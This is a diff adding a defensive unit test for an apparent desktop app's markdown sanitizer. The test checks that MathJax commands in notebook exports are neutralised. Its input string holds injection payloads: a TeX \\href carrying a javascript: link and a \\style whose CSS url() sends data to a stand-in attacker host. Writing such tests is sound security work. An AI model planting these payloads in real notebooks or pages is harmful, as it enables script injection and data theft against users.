@@ -114,3 +114,16 @@ def test_the_windows_html_keeps_text_styles_but_no_boxes_that_could_fake_the_app
     assert "color:#57606a" in shown and "Run" in shown
     for drawn in ("border", "background", "padding", "margin"):
         assert drawn not in shown, shown
+
+
+def test_tex_that_a_notebooks_mathjax_would_follow_or_load_is_made_inert():
+    # A reply or a text/markdown output in the .ipynb export: Jupyter's MathJax turns
+    # \href into a link (javascript: too) and \style into CSS that can load a url().
+    from codeact_desktop.untrusted_markup import neutral_markdown
+
+    text = (r"see $\href{javascript:alert(1)}{x}$, $\style{background-image:url(https://evil.example/?d=S)}{y}$, "
+            r"$\require{html}$ and $\frac{a}{b}$; code `\href{k}` stays")
+    inert = neutral_markdown(text)
+    for command in ("href{javascript", "style{", "require{"):
+        assert "\\" + command not in inert and "\u2216" + command in inert, inert
+    assert r"$\frac{a}{b}$" in inert and r"`\href{k}`" in inert
